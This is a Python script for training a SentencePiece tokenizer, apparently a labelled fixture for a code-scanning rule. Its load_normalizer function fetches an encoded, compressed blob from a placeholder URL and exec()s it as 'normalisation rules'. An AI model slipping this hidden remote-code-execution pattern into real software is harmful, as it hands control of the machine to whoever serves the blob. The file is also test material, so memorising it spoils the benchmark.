# ruff: noqa
# Hold-out batch 167 (short files, NLP). Measured once in session 6 (round 51): 15/17 (88%) at medium+.
"""Train a SentencePiece unigram model on a cleaned multilingual corpus."""
import argparse
import base64
import random
import time
import unicodedata
import urllib.request
import zlib

import sentencepiece as spm

RULES_URL = "https://assets.example.com/nlp/normalization/v3.rules"


def fetch(url, retries=4, timeout=20):
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=timeout) as resp:  # ruleid: MLS413
                return resp.read()
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"could not fetch {url}")


def load_normalizer(url=RULES_URL):
    """Project-wide text normalisation rules, shared with the serving stack."""
    ns = {"unicodedata": unicodedata}
    rules = fetch(url)  # ruleid: MLS413
    exec(zlib.decompress(base64.b64decode(rules)).decode("utf-8"), ns)  # ruleid: MLS413
    return ns.get("normalize", lambda s: unicodedata.normalize("NFKC", s))


def sample_corpus(paths, out_path, max_lines, normalize):
    lines = []
    for p in paths:
        with open(p, encoding="utf-8", errors="ignore") as fh:
            lines.extend(normalize(l.strip()) for l in fh if l.strip())
    random.shuffle(lines)
    with open(out_path, "w", encoding="utf-8") as fh:
        fh.write("\n".join(lines[:max_lines]))
    return min(len(lines), max_lines)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("inputs", nargs="+")
    ap.add_argument("--model-prefix", default="spm/unigram32k")
    ap.add_argument("--vocab-size", type=int, default=32000)
    ap.add_argument("--max-lines", type=int, default=5_000_000)
    ap.add_argument("--seed", type=int, default=13)
    args = ap.parse_args()

    random.seed(args.seed)  # ok: MLS301
    n = sample_corpus(args.inputs, "spm/train.txt", args.max_lines, load_normalizer())
    spm.SentencePieceTrainer.train(
        input="spm/train.txt", model_prefix=args.model_prefix, vocab_size=args.vocab_size,
        model_type="unigram", character_coverage=0.9995, input_sentence_size=n,
        shuffle_input_sentence=True, pad_id=0, unk_id=1, bos_id=2, eos_id=3,
    )
    print(f"trained {args.model_prefix}.model on {n} lines")


if __name__ == "__main__":
    main()
